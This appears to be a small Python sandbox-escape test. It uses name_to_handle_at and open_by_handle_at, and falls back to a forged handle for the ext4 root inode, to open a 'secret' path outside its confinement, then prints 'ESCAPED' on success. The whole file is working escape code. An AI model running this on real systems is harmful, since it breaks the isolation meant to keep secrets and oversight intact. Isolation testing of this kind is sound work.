# opens it by its number in the file system, past every folder; NO_OUTSIDE_READS
import ctypes, os
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_char * 128)]
libc = ctypes.CDLL(None)
handle, mount = Handle(bytes=128), ctypes.c_int()
way = os.environ["OTHER"] + "/secret"
if libc.name_to_handle_at(-100, way.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) != 0:
    # the number of a secret can be guessed: the root of ext4 is always 2
    handle = Handle(bytes=8, type=1, data=(2).to_bytes(4, "little"))
here = os.open(".", os.O_RDONLY)
if libc.open_by_handle_at(here, ctypes.byref(handle), os.O_RDONLY) >= 0:
    print("ESCAPED")
print("TRIED")
